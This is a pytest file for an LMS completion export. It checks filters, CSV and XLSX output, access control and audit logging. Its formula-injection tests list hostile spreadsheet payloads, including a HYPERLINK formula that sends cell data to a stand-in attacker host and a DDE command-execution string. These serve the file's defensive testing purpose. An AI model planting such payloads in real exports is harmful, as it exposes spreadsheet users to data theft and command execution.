"""The completion export: rows and filters, CSV with a BOM, XLSX, formula safety, access and the audit log."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from sqlalchemy import select

from lms.audit.models import AuditEvent
from lms.extensions import db
from lms.reports.completions import COLUMN_NAMES, CompletionExport
from lms.reports.filters import ExportFilters
from lms.spreadsheets import looks_like_a_formula, safe_cell
from tests.reports.conftest import utc
from tests.reports.factories import enrol, make_cohort

SHANGHAI = ZoneInfo("Asia/Shanghai")


def export_rows(filters: ExportFilters, header: str = "machine", chunk_size: int = 1000) -> list[dict]:
    db.session.commit()
    export = CompletionExport(filters, SHANGHAI, header, chunk_size=chunk_size)
    return [dict(zip(export.vocabulary.header, row, strict=True)) for batch in export.batches() for row in batch]


def pairs(rows: list[dict]) -> set[tuple[str, str]]:
    return {(row["trainee_name"], row["course_slug"]) for row in rows}


def post_export(client, **fields):
    data = {"date_field": "completed", "file_format": "csv", "header": "zh", **fields}
    return client.post("/admin/reports/export", data=data)


def read_csv(response) -> list[list[str]]:
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf"), "the CSV must start with a UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


# ---------------------------------------------------------------- rows and filters


def test_one_row_per_trainee_and_course_with_progress_completion_and_certificate(county):
    rows = {(r["trainee_name"], r["course_slug"]): r for r in export_rows(ExportFilters())}
    # The instructor's own enrolment is not a trainee's: it is left out.
    assert set(rows) == {("吕振鸿", "shop-basics"), ("吕振鸿", "cs-basics"), ("王芳", "shop-basics"),
                         ("王芳", "cs-basics"), ("张伟", "shop-basics")}
    done = rows[("吕振鸿", "shop-basics")]
    assert done["phone"] == county.a.phone and done["village"] == "北山村" and done["cohorts"] == "北山村开店班"
    assert (done["course_title"], done["track"], done["specialty"], done["level"]) == ("开店基础", "创业", "", "intro")
    assert done["enrolled_at"] == "2025-03-01T10:00:00+08:00"
    assert done["completed_at"] == "2025-03-10T10:00:00+08:00" and done["last_activity_at"] == done["completed_at"]
    assert (done["items_finished"], done["items_total"], done["status"]) == (3, 3, "completed")
    assert done["best_quiz_scores"] == "basics-check: 90"
    assert done["certificate_state"] == "valid" and len(done["certificate_code"]) == 17  # XXXXX-XXXXX-XXXXX
    started = rows[("吕振鸿", "cs-basics")]
    assert (started["items_finished"], started["items_total"], started["status"]) == (1, 3, "in_progress")
    assert started["best_quiz_scores"] == "quiz-3: 60" and started["completed_at"] == ""
    assert (started["track"], started["specialty"]) == ("就业", "网店客服")
    untouched = rows[("王芳", "shop-basics")]
    assert (untouched["items_finished"], untouched["status"], untouched["certificate_code"]) == (0, "enrolled", "")


def test_a_deactivated_trainee_still_exports(county):
    assert ("张伟", "shop-basics") in pairs(export_rows(ExportFilters(status="completed")))


A, B, C = "吕振鸿", "王芳", "张伟"


@pytest.mark.parametrize(("filters", "expected"), [
    ({}, {(A, "shop-basics"), (A, "cs-basics"), (B, "shop-basics"), (B, "cs-basics"), (C, "shop-basics")}),
    # Whole local days: b completed at 01:00 on 1 April Beijing time (17:00 UTC on 31 March).
    ({"date_from": date(2025, 3, 1), "date_to": date(2025, 3, 31)}, {(A, "shop-basics")}),
    ({"date_from": date(2025, 4, 1), "date_to": date(2025, 4, 30)}, {(B, "cs-basics")}),
    ({"date_field": "enrolled", "date_from": date(2025, 4, 1)}, {(A, "cs-basics"), (B, "shop-basics")}),
    ({"date_field": "enrolled", "date_to": date(2025, 1, 31)}, {(C, "shop-basics")}),
    ({"track": "employment"}, {(A, "cs-basics"), (B, "cs-basics")}),
    ({"specialty": "customer-service"}, {(A, "cs-basics"), (B, "cs-basics")}),
    ({"level": "intermediate"}, set()),
    ({"level": "intro", "track": "entrepreneurship"}, {(A, "shop-basics"), (B, "shop-basics"), (C, "shop-basics")}),
    ({"course": "cs-basics"}, {(A, "cs-basics"), (B, "cs-basics")}),
    # A workshop: its members, in its courses (a's customer-service course is not the Beishan workshop's).
    ({"cohort": "beishan"}, {(A, "shop-basics"), (C, "shop-basics")}),
    ({"cohort": "service_class", "status": "completed"}, {(B, "cs-basics")}),
    ({"village": "北山村"}, {(A, "shop-basics"), (A, "cs-basics"), (C, "shop-basics")}),
    ({"status": "completed"}, {(A, "shop-basics"), (B, "cs-basics"), (C, "shop-basics")}),
    ({"status": "in_progress"}, {(A, "cs-basics")}),
    ({"status": "enrolled"}, {(B, "shop-basics")}),
    ({"village": "北山村", "status": "completed", "date_from": date(2025, 1, 1), "date_to": date(2025, 3, 31)},
     {(A, "shop-basics"), (C, "shop-basics")}),
    ({"village": "南岭村", "track": "entrepreneurship", "status": "completed"}, set()),
])
def test_filter_combinations_give_the_right_rows(county, filters, expected):
    from tests.reports.factories import track

    values = dict(filters)
    for key in ("track", "specialty"):
        if key in values:
            values[f"{key}_id"] = track(values.pop(key)).id
    if "course" in values:
        values["course_id"] = {"cs-basics": county.service.id, "shop-basics": county.basics.id}[values.pop("course")]
    if "cohort" in values:
        values["cohort_id"] = getattr(county, values.pop("cohort")).id
    assert pairs(export_rows(ExportFilters(**values))) == expected
    assert CompletionExport(ExportFilters(**values), SHANGHAI).count() == len(expected)


def test_chunks_are_read_in_enrolment_order_without_gaps_or_repeats(county, make_user):
    more = [make_user(village="北山村") for _ in range(7)]
    for user in more:
        enrol(user, county.basics, utc(2025, 5, 1))
    whole = export_rows(ExportFilters(village="北山村"), chunk_size=1000)
    for size in (1, 2, 3):
        assert export_rows(ExportFilters(village="北山村"), chunk_size=size) == whole
    assert len(whole) == 10


def test_courses_and_workshops_added_during_an_export_are_named(county):
    from tests.reports.factories import make_course

    db.session.commit()
    batches = CompletionExport(ExportFilters(), SHANGHAI, "machine", chunk_size=2).batches()
    rows = next(batches)  # no connection or transaction is held between chunks, so others can write
    late = make_course("late-course", "新课")
    make_cohort("新开的班", courses=[late], members=[county.b])
    enrol(county.b, late, utc(2025, 6, 1))
    rows += [row for batch in batches for row in batch]
    assert [(row[0], row[3], row[5]) for row in rows if row[4] == "late-course"] == [(B, "客服班; 新开的班", "新课")]


def test_headers_in_chinese_english_or_machine_names(county):
    zh = CompletionExport(ExportFilters(), SHANGHAI, "zh").vocabulary
    en = CompletionExport(ExportFilters(), SHANGHAI, "en").vocabulary
    machine = CompletionExport(ExportFilters(), SHANGHAI, "machine").vocabulary
    assert machine.header == list(COLUMN_NAMES) and len(set(COLUMN_NAMES)) == 19
    assert en.header[:4] == ["Name", "Phone", "Village", "Workshops"] and "Certificate code" in en.header
    assert zh.header[:3] == ["姓名", "手机号", "村"] and len(zh.header) == len(en.header) == 19
    english = {(r["Name"], r["Course"]): r for r in export_rows(ExportFilters(), header="en")}
    assert english[(A, "Customer service basics")]["Status"] == "In progress"
    assert english[(A, "Customer service basics")]["Specialty"] == "Customer service"
    basics = english[(A, "Shop basics")]
    assert (basics["Level"], basics["Track"], basics["Certificate state"]) == ("Intro", "Entrepreneurship", "Valid")


# ---------------------------------------------------------------- files


def test_the_csv_has_a_bom_and_round_trips_chinese_text(client, auth, county):
    auth.login(county.admin)
    response = post_export(client)
    assert response.status_code == 200 and response.is_streamed
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "private, no-store"
    rows = read_csv(response)
    assert rows[0][:3] == ["姓名", "手机号", "村"]
    assert len(rows) == 6
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["姓名"] == "吕振鸿" and first["村"] == "北山村" and first["课程"] == "开店基础"
    assert first["状态"] == "已学完" and first["完成时间"] == "2025-03-10T10:00:00+08:00"


def test_the_csv_response_starts_with_the_bom_before_any_row_is_read(client, auth, county):
    auth.login(county.admin)
    response = post_export(client)
    pieces = iter(response.response)
    assert next(pieces) == b"\xef\xbb\xbf"  # sent at once, before the first chunk is read
    rest = b"".join(pieces)
    response.close()
    assert rest.startswith('"姓名","手机号"'.encode()) and rest.count(b"\r\n") == 6


def test_the_xlsx_holds_the_csv_rows_with_real_dates_and_a_column_per_quiz(client, auth, county):
    auth.login(county.admin)
    csv_rows = read_csv(post_export(client, header="en"))
    response = post_export(client, header="en", file_format="xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    xlsx_rows = [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]
    width = len(csv_rows[0])
    assert xlsx_rows[0][:width] == csv_rows[0]
    quiz_headers = xlsx_rows[0][width:]
    assert quiz_headers and all(" · " in header for header in quiz_headers)  # several courses: course · quiz
    finished = csv_rows[0].index("Items finished")
    assert all(isinstance(row[finished], int) for row in xlsx_rows[1:]), "numbers stay numbers"
    dates = [csv_rows[0].index(name) for name in ("Enrolled at", "Last activity", "Completed at")]
    for xlsx_row, csv_row in zip(xlsx_rows[1:], csv_rows[1:], strict=True):
        for index in dates:  # a date cell, sortable, the same local moment the CSV writes as ISO text
            expected = datetime.fromisoformat(csv_row[index]).replace(tzinfo=None) if csv_row[index] else ""
            assert xlsx_row[index] == expected
        rest = [i for i in range(width) if i not in dates]
        assert [str(xlsx_row[i]) for i in rest] == [csv_row[i] for i in rest]
    date_cell = sheet.cell(row=2, column=dates[0] + 1)
    assert date_cell.is_date and date_cell.number_format == "yyyy-mm-dd hh:mm"
    scored = next(row for row in xlsx_rows[1:]
                  if row[0] == "吕振鸿" and row[csv_rows[0].index("Course code")] == "shop-basics")
    assert 90 in scored[width:] and all(isinstance(v, int | float) or v == "" for v in scored[width:])


def test_an_export_of_one_course_names_its_quiz_columns_by_quiz(client, auth, county):
    auth.login(county.admin)
    response = post_export(client, header="zh", file_format="xlsx", course=str(county.basics.id))
    header = next(openpyxl.load_workbook(io.BytesIO(response.get_data())).active.iter_rows(values_only=True))
    quiz_titles = [item.title("zh") for item in county.basics.items if item.is_quiz]
    assert list(header[-len(quiz_titles):]) == quiz_titles and " · " not in header[-1]


INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1",
              "＝1+1", "＋SUM(1)", "－2+3", "＠SUM(1)", " =1+1", "\u3000＝HYPERLINK(1)", "﹦1+1"]


def test_formula_payloads_are_neutralised_in_both_formats(client, auth, county, make_user):
    users = [make_user(name=payload, village=payload) for payload in INJECTIONS]
    make_cohort("=cmd|' /C calc'!A0", courses=[county.basics], members=users)
    for user in users:
        enrol(user, county.basics, utc(2025, 6, 1))
    auth.login(county.admin)
    rows = read_csv(post_export(client, status="enrolled", header="machine"))
    header, body = rows[0], rows[1:]
    injected = [dict(zip(header, row, strict=True)) for row in body if row[0] not in (B,)]
    assert len(injected) == len(INJECTIONS)
    for row in injected:
        for column in ("trainee_name", "village", "cohorts"):
            assert row[column].startswith("'"), (column, row[column])
            assert looks_like_a_formula(row[column][1:])
    response = post_export(client, status="enrolled", header="machine", file_format="xlsx")
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "no cell may be a formula"
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [t for t in texts if looks_like_a_formula(t)]
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")" in texts


def test_safe_cells_keep_numbers_and_plain_text():
    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5 and safe_cell(None) == ""
    assert safe_cell("北山村") == "北山村" and safe_cell("a=b") == "a=b"
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("-1") == "'-1"
    assert safe_cell("bad\x00\x1bname") == "badname"


@pytest.mark.parametrize("payload", ["＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1", "﹢1", "﹣1", "﹫A1", " =1", "  +1",
                                     "\u3000＝1", "\u00a0@A1", "\t=1", "\r=1"])
def test_full_width_and_space_led_formulas_are_kept_as_text(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", ["北山村", "a=b", "5", "吕振鸿（＝老吕）", " 北山村", "", "　东坡村"])
def test_text_that_only_contains_formula_signs_later_is_left_alone(text):
    assert safe_cell(text) == text


def test_no_matching_records_says_so_and_writes_no_file(client, auth, county):
    auth.login(county.admin)
    response = post_export(client, level="intermediate")
    assert response.status_code == 200 and response.mimetype == "text/html"
    assert "没有符合条件的记录" in response.get_data(as_text=True)
    assert db.session.scalar(select(AuditEvent).where(AuditEvent.action == "export.completions")) is None


def test_bad_filters_are_shown_next_to_their_fields(client, auth, county):
    auth.login(county.admin)
    response = post_export(client, date_from="2025-05-01", date_to="2025-04-01", course="999999", status="lost")
    assert response.status_code == 400
    html = response.get_data(as_text=True)
    assert "结束日期不能早于开始日期" in html and html.count('class="field-error"') == 3


def test_the_form_filters_reach_the_export(client, auth, county):
    auth.login(county.admin)
    page = client.get("/admin/reports/export").get_data(as_text=True)
    assert "北山村开店班" in page and "网店客服" in page and '<option value="北山村">' in page
    rows = read_csv(post_export(client, cohort=county.beishan.id, status="completed", header="machine"))
    assert {(r[0], r[4]) for r in rows[1:]} == {(A, "shop-basics"), (C, "shop-basics")}


# ---------------------------------------------------------------- who, and the audit log


@pytest.mark.parametrize("role", ["trainee", "instructor"])
def test_only_administrators_reach_exports(client, auth, county, make_user, role):
    auth.login(make_user(role))
    assert client.get("/admin/reports/export").status_code == 403
    assert post_export(client).status_code == 403
    assert db.session.scalar(select(AuditEvent).where(AuditEvent.action == "export.completions")) is None


def test_anonymous_visitors_are_sent_to_sign_in(client, county):
    response = post_export(client)
    assert response.status_code == 302 and "/login" in response.headers["Location"]


@pytest.mark.app_config(WTF_CSRF_ENABLED=True)
def test_an_export_without_the_forms_token_is_refused(client, auth, county):
    from tests.conftest import csrf_token_from

    login_page = client.get("/login").get_data(as_text=True)
    client.post("/login", data={"phone": county.admin.phone, "password": "village-shop-2024",
                                "csrf_token": csrf_token_from(login_page)})
    assert post_export(client).status_code == 400
    token = csrf_token_from(client.get("/admin/reports/export").get_data(as_text=True))
    assert post_export(client, csrf_token=token).status_code == 200


def test_every_export_is_written_to_the_audit_log_and_shown_to_administrators(client, auth, county):
    auth.login(county.admin)
    read_csv(post_export(client, status="completed", village="北山村"))
    post_export(client, file_format="xlsx", header="en").get_data()
    events = list(db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export.completions")
                                     .order_by(AuditEvent.id)))
    assert [e.actor_id for e in events] == [county.admin.id, county.admin.id]
    assert events[0].details == {"format": "csv", "header": "zh", "rows": 2,
                                 "filters": {"date_field": "completed", "status": "completed", "village": "北山村"}}
    assert events[1].details["format"] == "xlsx" and events[1].details["rows"] == 5
    assert events[1].details["filters"] == {}
    page = client.get("/admin/reports/audit?action=export.completions").get_data(as_text=True)
    assert page.count("导出了") == 2 and "村：北山村" in page and "状态：已学完" in page and "（管理员）" in page
    assert "export.completions</" not in page  # words, not event names


def test_the_audit_log_pages_backwards(client, auth, county):
    from lms.audit.log import record_event

    for n in range(55):
        record_event(county.admin, "test.event", number=n)
    db.session.commit()
    auth.login(county.admin)
    first = client.get("/admin/reports/audit?action=test.event").get_data(as_text=True)
    assert "number: 54" in first and "number: 4<" not in first  # an unknown kind still shows its details
    link = first.split('href="/admin/reports/audit?')[-1].split('"')[0].replace("&amp;", "&")
    older = client.get(f"/admin/reports/audit?{link}").get_data(as_text=True)
    assert "number: 4<" in older and "number: 54" not in older


# ---------------------------------------------------------------- JSON for other systems


def test_the_json_export_has_the_csv_rows_under_the_machine_names_with_the_same_filters(client, auth, county):
    import json  # noqa: PLC0415

    auth.login(county.admin)
    response = client.get("/admin/reports/export?format=json&status=completed")
    assert response.status_code == 200 and response.is_streamed and response.mimetype == "application/json"
    document = json.loads(response.get_data(as_text=True))
    assert document["columns"] == list(COLUMN_NAMES)
    assert document["filters"] == {"date_field": "completed", "status": "completed"}
    assert document["rows"] == export_rows(ExportFilters(status="completed"))
    assert document["rows"] and all(row["status"] == "completed" for row in document["rows"])
    events = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export.completions")).all()
    assert events[-1].details["format"] == "json"


def test_a_json_export_with_a_filter_it_cannot_read_answers_400_with_the_reason(client, auth, county):
    auth.login(county.admin)
    response = client.get("/admin/reports/export?format=json&date_from=2025-05-02&date_to=2025-05-01")
    assert response.status_code == 400 and "date_to" in response.get_json()["errors"]


def test_the_json_export_is_for_administrators_only(client, auth, county, make_user):
    auth.login(make_user("instructor"))
    assert client.get("/admin/reports/export?format=json").status_code == 403
